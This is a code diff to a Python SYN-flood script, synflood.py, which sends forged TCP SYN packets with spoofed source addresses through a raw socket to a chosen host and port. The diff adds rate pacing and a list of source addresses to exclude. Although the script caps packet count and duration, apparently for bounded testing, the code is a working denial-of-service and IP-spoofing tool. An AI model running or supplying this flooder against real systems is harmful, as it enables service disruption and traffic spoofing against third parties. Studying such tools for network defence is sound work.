@@ -2,9 +2,12 @@
 """Send forged TCP SYNs through a raw socket: a bounded spoofing attacker.
 
   synflood.py DST DPORT --count N [--src ADDR | --random-src CIDR] [--seconds S]
+              [--pps R] [--exclude ADDR ...]
 
 Sources come from --src (impersonating one host) or uniformly from
---random-src. Stops after N packets or S seconds, whichever comes first."""
+--random-src, never one of --exclude. --pps paces the flood to at most R
+packets a second. Stops after N packets or S seconds, whichever comes
+first."""
 import argparse
 import ipaddress
 import random
@@ -40,19 +43,27 @@ def main():
     ap.add_argument("--src")
     ap.add_argument("--random-src")
     ap.add_argument("--seconds", type=float, default=30.0)
+    ap.add_argument("--pps", type=float, default=0.0)
+    ap.add_argument("--exclude", nargs="*", default=[])
     a = ap.parse_args()
     dst = socket.inet_aton(a.dst)
     net = ipaddress.ip_network(a.random_src) if a.random_src else None
     fixed = socket.inet_aton(a.src) if a.src else None
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     rng = random.Random(7)
-    deadline = time.monotonic() + a.seconds
+    exclude = {socket.inet_aton(x) for x in a.exclude}
+    start = time.monotonic()
+    deadline = start + a.seconds
     sent = 0
     while sent < a.count and time.monotonic() < deadline:
+        if a.pps and sent % 64 == 0:
+            time.sleep(max(0.0, start + sent / a.pps - time.monotonic()))
         if fixed:
             src = fixed
         else:
             src = (net.network_address + rng.randrange(1, net.num_addresses - 1)).packed
+            if src in exclude:
+                continue
         pkt = syn(src, dst, rng.randrange(1024, 65535), a.dport, rng.getrandbits(32))
         try:
             s.sendto(pkt, (a.dst, 0))
